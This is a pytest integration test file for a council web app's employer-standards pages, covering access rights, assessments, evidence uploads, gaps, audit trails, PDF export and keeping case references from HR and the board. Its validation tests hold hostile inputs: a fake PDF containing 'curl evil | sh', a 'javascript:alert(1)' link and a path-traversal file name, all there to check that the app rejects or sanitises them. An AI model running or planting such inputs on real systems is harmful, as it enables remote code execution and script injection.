"""The pages of the standards: who sees what, as of which day, what may be said, and what is refused."""

import io
import re
from datetime import date, timedelta
from html import unescape

import pytest
from pypdf import PdfReader
from sqlalchemy.exc import DBAPIError

from tests.integration.standards import made
from tests.integration.supervision.records import council
from workforce.web import documents, forms

DAY = council.DAY
PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer\n%%EOF\n"
SEES = {"jon", "pia", "rob", "hr", "quality", "una", "analyst", "sue"}
ASSESSES = {"pia", "rob", "quality", "una"}
EVERYBODY = {*SEES, "ann", "gus", "board", "governance", "admin"}
STATEMENTS = 27  # of /standards, however many people and years: the reader, 21 figures, what is said of them


def said(answer):
    """What a page says, without its markup."""
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", answer.text)).split())


def error(answer):
    return re.findall(r"Error:</span>\s*([^<]+?)\s*<", answer.text) or re.findall(
        r"govuk-error-summary__list.*?<li>\s*(?:<a[^>]*>)?\s*([^<]+?)\s*<", answer.text, re.DOTALL
    )  # fmt: skip


@pytest.fixture
def assess(browse):
    def send(who="una", number=3, **fields):
        sent = {"verdict": "partly", "reason": "Two areas are left.", "next_on": "2027-03-01", "edition": 0, **fields}
        return browse(who).post(f"/standards/{number}/assessment", **sent)

    return send


@pytest.fixture
def evidence(browse):
    def send(requirement="ES1.1", who="una", file=None, **fields):
        sent = {
            "kind": "statement", "title": "Health check 2026", "words": "It was published.", "owner": "PSW",
            "held_on": "2026-10-01", "review_on": "2027-10-01", "edition": 0, **fields,
        }  # fmt: skip
        if file is not None:
            sent |= {"kind": "document", "file": (io.BytesIO(file[1]), file[0])}
        return browse(who).post(f"/standards/requirements/{requirement}/evidence", **sent)

    return send


@pytest.fixture
def gap(browse):
    def send(number=3, words="An area has not agreed", edition=0, who="una"):
        return browse(who).post(f"/standards/{number}/gaps/new", words=words, edition=edition)

    return send


@pytest.mark.parametrize("name", sorted(EVERYBODY))
def test_who_may_see_and_who_may_assess(browse, name):
    browser = browse(name)
    sees, assesses = (200 if name in SEES else 403), (200 if name in ASSESSES else 403)
    for path in ("/standards", "/standards/3", "/standards/3/figures/ES3.1"):
        assert browser.get(path).status_code == sees, path
    reads = 404 if name in {"board", "governance", "gus"} else sees  # of published days, and none is
    assert browser.get("/standards/pdf").status_code == reads
    for path in ("/standards/3/assessment", "/standards/requirements/ES1.1/evidence", "/standards/3/gaps/new"):
        assert browser.get(path).status_code == assesses, path
        assert (browser.post(path).status_code == 403) == (name not in ASSESSES), path
    if name in SEES:
        assert ("Add evidence" in browser.get("/standards/1").text) == (name in ASSESSES)
    assert council.value("SELECT count(*) FROM standard_assessment") == 0


NAMED = {  # whose rows name people, and who may open them
    "ES3.2": SEES - {"hr", "sue"}, "ES3.3": SEES - {"hr", "sue"}, "ES3.5": SEES - {"hr", "sue"}, "ES5.1": SEES,
    "ES5.4": SEES, "ES5.6-on-time": SEES, "ES5.7": SEES, "ES5.8": SEES,
}  # fmt: skip


def test_rows_name_people_to_those_who_may_see_them_and_in_scope(browse):
    made.learning_known()
    made.watched_since(date(2026, 9, 1))
    made.allocation("E1", date(2026, 10, 5), discussed=date(2026, 10, 2))
    made.allocation("E6", date(2026, 10, 5), team="T2")
    for key, who in NAMED.items():
        path = f"/standards/{key[2]}/figures/{key}"
        for name in ("hr", "jon", "una", "analyst"):
            assert browse(name).get(path).status_code == (200 if name in who else 404), (key, name)
    page = said(browse("una").get("/standards/3/figures/ES3.3"))
    assert "Ann Bee North" in page and "Fay Gill South" in page
    assert council.SECRET_CASE not in page
    council.run("UPDATE account SET team_code = 'T1' WHERE email = 'jon@demo.example'")
    council.run("UPDATE worker SET employee_number = 'E10x' WHERE employee_number = 'E10'")
    council.run("UPDATE team_version SET manager_employee_number = NULL WHERE manager_employee_number = 'E10'")
    page = said(browse("jon").get("/standards/3/figures/ES3.3"))
    assert "50.0% 1 decisions with a recorded discussion, of 2" in page, "the figure is the whole council's"
    assert "Fay Gill" not in page and "1 of teams outside your scope" in page
    assert council.value("SELECT count(*) FROM audit_entry WHERE action = 'read standard''s rows'") >= 20


def test_rows_download_and_say_what_is_left_out(browse):
    made.allocation("E1", date(2026, 10, 5), discussed=date(2026, 10, 2))
    text = browse("una").get("/standards/3/figures/ES3.3?format=csv").data.decode("utf-8-sig")
    assert text.splitlines() == [
        "ES3.3: Allocations with a recorded discussion", "As at 2 November 2026",
        '"1 decisions with a recorded discussion, of 1 decisions made here in 12 months"',
        "Who,Team,What was decided,Decided,Discussed,Counts,Of", "Ann Bee,North,allocate,2026-10-05,2026-10-02,1.0,1.0",
    ]  # fmt: skip
    answer = browse("una").get("/standards?format=xlsx")
    assert answer.data[:2] == b"PK"
    table = browse("hr").get("/standards?format=csv").data.decode("utf-8-sig")
    assert len(table.splitlines()) == 4 + 38, "every requirement"


def test_no_page_or_download_tells_hr_of_a_case_or_of_what_was_said(browse, meet):
    for hour, name in zip((8, 10, 12, 14), ("ann", "ben", "cat", "dan"), strict=True):
        meet.signed(name, at=f"{hour}:00", start=f"{hour}:00", end=f"{hour + 1}:30")
    made.allocation("E1", date(2026, 10, 5))
    made.concern(date(2026, 10, 19), "safety", number="E1")
    pages = ["/standards", "/standards/pdf", *(f"/standards/{n}" for n in range(1, 9))]
    pages += [f"/standards/{key[2]}/figures/{key}" for key in ("ES3.4-answered", "ES5.1", "ES5.4", "ES7.3")]
    for page in pages:
        for way in ("", "?format=csv"):
            told = browse("hr").get(page + way).data.decode("utf-8", "replace")
            assert council.SECRET_CASE not in told and "duty week" not in told and "A word" not in told, page
    assert "Ann" not in said(browse("hr").get("/standards/7/figures/ES7.3"))


def test_statements(browse, counted):
    made.learning_known()
    made.watched_since(date(2026, 9, 1))
    made.overload("E1", date(2026, 10, 12), review_on=date(2026, 11, 20))
    browse("una").get("/standards")
    with counted() as few:
        assert browse("una").get("/standards").status_code == 200
    assert len(few) <= STATEMENTS, "\n\n".join(few)
    made.overload("E4", date(2026, 10, 19), review_on=date(2026, 11, 20))
    for number in ("E1", "E3", "E4"):
        made.session(number, date(2026, 10, 5))
        made.completion(number, date(2026, 1, 5))
        made.piece(number, date(2026, 1, 5), "One")
        made.concern(date(2026, 10, 19), "safety")
    with counted() as more:
        browse("una").get("/standards")
    assert len(more) == len(few)


def test_an_assessment_stands_with_reason_name_and_days_and_the_next_beside_it(browse, assess, when):
    assert "Not yet assessed" in said(browse("una").get("/standards/3"))
    assert assess().status_code == 303
    page = said(browse("hr").get("/standards/3"))
    assert "Partly met" in page and "Two areas are left." in page
    assert "Una, 2 November 2026. To be looked at again by 1 March 2027." in page
    assert "The council says that it is not fully met, and no gap is written" in page
    first = council.value("SELECT max(id) FROM standard_assessment")
    when.on(date(2027, 3, 2))
    assert "Assessment overdue was due by 1 March 2027" in said(browse("una").get("/standards"))
    assert assess(verdict="met", reason="Both agreed.", next_on="2028-03-01", edition=first).status_code == 303
    page = said(browse("una").get("/standards/3"))
    assert page.index("Both agreed.") < page.index("1 earlier assessment") < page.index("Two areas are left.")
    past = said(browse("una").get("/standards/3?as_of=2027-03-01"))
    assert "Both agreed." not in past and "Partly met" in past
    assert "Not yet assessed" in said(browse("una").get("/standards/3?as_of=2026-11-01"))
    trail = council.rows("SELECT subject, detail FROM audit_entry WHERE action = 'standard assessed' ORDER BY id")
    assert [one[0] for one in trail] == ["standard:3", "standard:3"]
    assert "areas" not in str(trail), "no free text in the trail"


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"verdict": ""}, "Choose where the council stands"),
        ({"verdict": "excellent"}, "Not a valid choice."),
        ({"reason": " \x00 "}, "Say why"),
        ({"reason": "x" * 4001}, "Use 4,000 characters or fewer"),
        ({"next_on": "2026-11-02"}, "Give a day after today"),
        ({"next_on": "2099-01-01"}, "Give a day within 5 years"),
        ({"next_on": "soon"}, "Give a day, such as 1/12/2026"),
        ({"edition": "old"}, "Not a valid integer value."),
    ],
)
def test_what_can_not_be_an_assessment_is_said_and_kept(assess, fields, words):
    answer = assess(**fields)
    if "edition" in fields:
        assert answer.status_code in (409, 422)
    else:
        assert answer.status_code == 422
        assert any(words in one for one in error(answer)), error(answer)
        assert "Error: " in answer.text.split("</title>")[0]
    if fields.get("reason") is None:
        assert "Two areas are left." in answer.text, "what was typed stays"
    assert council.value("SELECT count(*) FROM standard_assessment") == 0


def test_pressed_twice_and_an_old_window_change_nothing(browse, assess, evidence, gap):
    for send, table in ((assess, "assessment"), (evidence, "evidence"), (gap, "gap")):
        assert send().status_code == 303
        again = send()
        assert again.status_code == 409
        assert "perhaps by pressing the button twice. Nothing was saved" in said(again)
        assert council.value(f"SELECT count(*) FROM standard_{table}") == 1
        newest = re.search(r'name="edition" value="(\d+)"', again.text)[1]
        assert send(edition=newest).status_code == 303, "the page that said so can be sent again"
    number = council.value("SELECT max(id) FROM standard_gap")
    sent = {"what": "Agree it", "owner": "", "owner_words": "HR", "due_on": "2026-12-01", "edition": 0}
    assert browse("una").post(f"/standards/gaps/{number}/actions", **sent).status_code == 303
    assert browse("una").post(f"/standards/gaps/{number}/actions", **sent).status_code == 409
    assert council.value("SELECT count(*) FROM standard_action") == 1


def test_evidence_of_every_kind(browse, evidence, when):
    assert evidence().status_code == 303
    edition = council.value("SELECT max(id) FROM standard_evidence")
    link = "https://council.example/health"
    assert evidence(kind="link", url=link, title="On the web", edition=edition).status_code == 303
    edition = council.value("SELECT max(id) FROM standard_evidence")
    assert evidence(file=("../../Health <check>.pdf", PDF), title="The check", edition=edition).status_code == 303
    number = council.value("SELECT max(id) FROM standard_evidence")
    page = browse("hr").get("/standards/1")
    assert f'href="{link}" rel="noreferrer noopener"' in page.text
    assert "It was published." in said(page) and "1 of 4 1 review" not in said(page)
    file = browse("hr").get(f"/standards/evidence/{number}/document")
    assert file.data == PDF and file.mimetype == "application/pdf"
    assert file.headers["Content-Disposition"] == 'attachment; filename="Health check.pdf"'
    assert file.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox allow-downloads" in file.headers["Content-Security-Policy"]
    read = council.rows("SELECT actor, subject FROM audit_entry WHERE action = 'read evidence of a standard'")
    assert read == [("hr@demo.example", f"evidence:{number}")]
    assert browse("ann").get(f"/standards/evidence/{number}/document").status_code == 403
    when.on(date(2027, 10, 2))
    assert said(browse("una").get("/standards/1")).count("Review overdue") == 4, "three pieces and their requirement"
    assert "0 of 4 in date" in said(browse("una").get("/standards"))


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"file": ("certificate.pdf", b"#!/bin/sh\ncurl evil | sh\n")}, "The file is not a PDF, JPEG or PNG"),
        ({"file": ("empty.pdf", b"")}, "The file is empty"),
        ({"file": ("", b"")}, "Choose a file"),
        ({"kind": "link", "url": "javascript:alert(1)"}, "begins with https://"),
        ({"kind": "link", "url": "http://council.example"}, "begins with https://"),
        ({"kind": "link", "url": ""}, "Give the address"),
        ({"words": ""}, "Write the statement"),
        ({"kind": ""}, "Choose a statement, a document or a link"),
        ({"title": ""}, "Say what it is"),
        ({"owner": ""}, "Say who keeps it up to date"),
        ({"held_on": "2026-11-03"}, "Give today or a day before it"),
        ({"review_on": "2026-11-02"}, "Give a day after today"),
    ],
)
def test_what_can_not_be_evidence_is_said(evidence, fields, words):
    answer = evidence(**fields)
    assert answer.status_code == 422
    assert any(words in one for one in error(answer)), error(answer)
    assert council.value("SELECT count(*) FROM standard_evidence") == 0


def test_three_times_the_limit_is_too_large(evidence, monkeypatch):
    """30 MB, at a thousandth of the size: the limit itself is held by a unit test."""
    assert documents.MAX_BYTES == 10 * 1024 * 1024
    for module in (documents, forms):
        monkeypatch.setattr(module, "MAX_BYTES", 10 * 1024)
    answer = evidence(file=("big.pdf", PDF[:-6] + b"\x00" * 30 * 1024 + b"%%EOF\n"))
    assert answer.status_code == 422
    assert "The file is larger than 10 MB. Make it smaller, or give a link to it." in error(answer)
    assert council.value("SELECT count(*) FROM standard_evidence") == 0


def test_evidence_is_withdrawn_never_overwritten(browse, evidence):
    evidence(file=("check.pdf", PDF))
    number = council.value("SELECT max(id) FROM standard_evidence")
    path = f"/standards/evidence/{number}/withdraw"
    assert browse("una").post(path, why="").status_code == 422
    assert browse("una").post(path, why="It names a child", erase="y").status_code == 303
    assert browse("una").post(path, why="Again").status_code == 409
    page = said(browse("una").get("/standards/1"))
    assert "1 piece withdrawn" in page and "Withdrawn by Una, 2 November 2026: It names a child" in page
    assert browse("una").get(f"/standards/evidence/{number}/document").status_code == 404
    assert council.value("SELECT count(*) FROM standard_document") == 0, "the file itself is gone"
    council.run(
        "INSERT INTO standard_assessment (standard, verdict, reason, assessed_on, next_on, by, at)"
        " VALUES (1, 'met', 'r', '2026-11-02', '2027-11-02', 'una', now())"
    )
    for change in (
        "UPDATE standard_evidence SET title = 'x'", "UPDATE standard_evidence SET withdrawn_why = 'x'",
        "DELETE FROM standard_evidence", "UPDATE standard_assessment SET reason = 'x'",
        "DELETE FROM standard_assessment", "TRUNCATE standard_gap CASCADE",
    ):  # fmt: skip
        with pytest.raises(DBAPIError):
            council.run(change)


def test_gaps_and_their_actions(browse, gap, when):
    assert gap().status_code == 303
    number = council.value("SELECT max(id) FROM standard_gap")
    path = f"/standards/gaps/{number}"
    assert gap(words="", edition=number).status_code == 422
    una = browse("una")
    pia = council.value("SELECT id FROM account WHERE email = 'jon@demo.example'")
    ann = council.value("SELECT id FROM account WHERE email = 'ann@demo.example'")
    sent = {"what": "Agree it", "owner": pia, "owner_words": "", "due_on": "2026-11-20", "edition": 0}
    for wrong, words in (
        ({"owner": "", "owner_words": ""}, "one of the two"), ({"owner_words": "HR"}, "one of the two"),
        ({"owner": ann}, "Choose somebody of the list"), ({"owner": "9" * 30}, "one of the two"), ({"what": ""}, "Say"),
        ({"due_on": "2026-11-02"}, "after today"),
    ):  # fmt: skip
        answer = una.post(f"{path}/actions", **{**sent, **wrong})
        assert answer.status_code == 422 and any(words in one for one in error(answer)), (wrong, error(answer))
    assert una.post(f"{path}/actions", **sent).status_code == 303
    action = council.value("SELECT max(id) FROM standard_action")
    assert una.post(f"{path}/close", why="Agreed").status_code == 422, "an action is open"
    when.on(DAY + timedelta(days=20))
    assert "1 open gap 1 open action 1 late" in said(browse("una").get("/standards"))
    assert browse("hr").post(f"{path}/actions/{action}/done").status_code == 404, "not theirs"
    assert browse("jon").get(path).status_code == 200
    assert browse("jon").post(f"{path}/actions/{action}/done").status_code == 303, "it is theirs"
    assert browse("una").post(f"{path}/actions/{action}/not-needed").status_code == 303
    assert council.value("SELECT ended_as FROM standard_action") == "done", "what ended stays as it ended"
    assert browse("una").post(f"{path}/close", why="").status_code == 422
    assert browse("una").post(f"{path}/close", why="Agreed in every area").status_code == 303
    assert browse("una").post(f"{path}/close", why="Again").status_code == 409
    assert (
        browse("una").post(f"{path}/actions", **{**sent, "due_on": "2027-01-01", "edition": action}).status_code == 409
    )
    assert "Closed 22 November 2026" in said(browse("una").get("/standards/3"))
    assert "1 late" in said(browse("una").get("/standards?as_of=2026-11-21")), "as it stood that day"
    assert "Closed" not in said(browse("una").get("/standards/3?as_of=2026-11-21"))


@pytest.mark.parametrize(
    "path",
    [
        "/standards/0", "/standards/9", "/standards?edition=2099", "/standards?as_of=never",
        "/standards/3/figures/ES9.9", "/standards/3/figures/ES5.1", "/standards/9/assessment",
        "/standards/requirements/ES0/evidence", "/standards/evidence/77/document", "/standards/evidence/77/withdraw",
        "/standards/gaps/77", "/standards/9/gaps/new",
    ],
)  # fmt: skip
def test_what_is_not_there_is_not_found(browse, path):
    assert browse("una").get(path).status_code == 404


def test_titles_by_the_address(browse):
    page = said(browse("una").get("/standards?edition=2012"))
    assert "4. Make sure social workers can do their jobs safely" in page
    assert "2020: Wellbeing" in page and "2014: Managing risks and resources" in page
    assert 'href="/standards/4?edition=2012"' in browse("una").get("/standards?edition=2012").text


def test_the_pdf_says_what_the_page_says_tagged_and_without_names(browse, assess, evidence, gap):
    assess()
    evidence()
    gap()
    made.allocation("E1", date(2026, 10, 5), discussed=date(2026, 10, 2))
    made.allocation("E6", date(2026, 10, 5), team="T2")
    answer = browse("una").get("/standards/pdf")
    assert answer.headers["Content-Disposition"] == "attachment; filename=employer-standards-2026-11-02.pdf"
    pdf = PdfReader(io.BytesIO(answer.data))
    assert pdf.trailer["/Root"]["/MarkInfo"]["/Marked"] and "/StructTreeRoot" in pdf.trailer["/Root"]
    assert str(pdf.trailer["/Root"]["/Lang"]).lower() == "en-gb"
    assert b"pdfuaid" in pdf.xmp_metadata.stream.get_data()
    assert pdf.metadata.title == "The eight employer standards, 2 November 2026"
    assert len(pdf.pages) == 9, "the picture, then a page each"
    text = " ".join(" ".join(page.extract_text() for page in pdf.pages).split())
    page = said(browse("una").get("/standards"))
    figures = re.findall(r"(\d\.\d) ([A-Z][^:]+?): (\d+\.\d%) \((\d+) of (\d+)\)", page)
    assert len(figures) >= 4
    for number, name, value, part, whole in figures:
        assert f"{number} {name} {value} {part} of {whole}" in text, name
    for words in ("Partly met", "Two areas are left.", "Health check 2026", "An area has not agreed", "1 March 2027"):
        assert words in text, words
    for name in ("Una", "Ann Bee", "Fay", "PSW"):
        assert name not in text, name


def test_the_board_reads_the_days_of_its_summaries(browse):
    """How they stood on any other day is told to nobody but who sees the standards."""
    assert "/standards/pdf" not in browse("board").get("/board").text, "nothing is published"
    for day in ("2026-10-05", "2026-11-02"):
        council.run(
            "INSERT INTO summary (as_at, frozen_at, frozen_by, release_at, published_at, published_by, sha256, context)"
            " VALUES (CAST(:day AS date), now(), 'test', now(), now(), 'test', '', '{}')", day=day,
        )  # fmt: skip
    for name in ("board", "governance", "gus"):
        newest = browse(name).get("/standards/pdf")
        assert "employer-standards-2026-11-02.pdf" in newest.headers["Content-Disposition"], name
    for day, status in (("2026-10-05", 200), ("2026-10-06", 404), ("2026-11-03", 404), ("soon", 404)):
        assert browse("board").get(f"/standards/pdf?as_of={day}").status_code == status, day
    assert browse("hr").get("/standards/pdf?as_of=2026-10-06").status_code == 200


def test_what_the_board_reads_holds_no_case(browse, assess, evidence, gap):
    told = "Take the case reference out: qx 4471"  # council.SECRET_CASE
    words = "As with qx 4471."
    for answer in (assess(reason=words), evidence(words=words), evidence(title=words), gap(words=words)):
        assert (answer.status_code, error(answer)[0]) == (422, told)
    gap()
    path = f"/standards/gaps/{council.value('SELECT max(id) FROM standard_gap')}"
    sent = {"what": words, "owner": "", "owner_words": "HR", "due_on": "2026-11-20", "edition": 0}
    assert browse("una").post(f"{path}/actions", **sent).status_code == 422
    assert browse("una").post(f"{path}/close", why=words).status_code == 422
    assert "No names and no case references" in browse("una").get("/standards/3/assessment").text
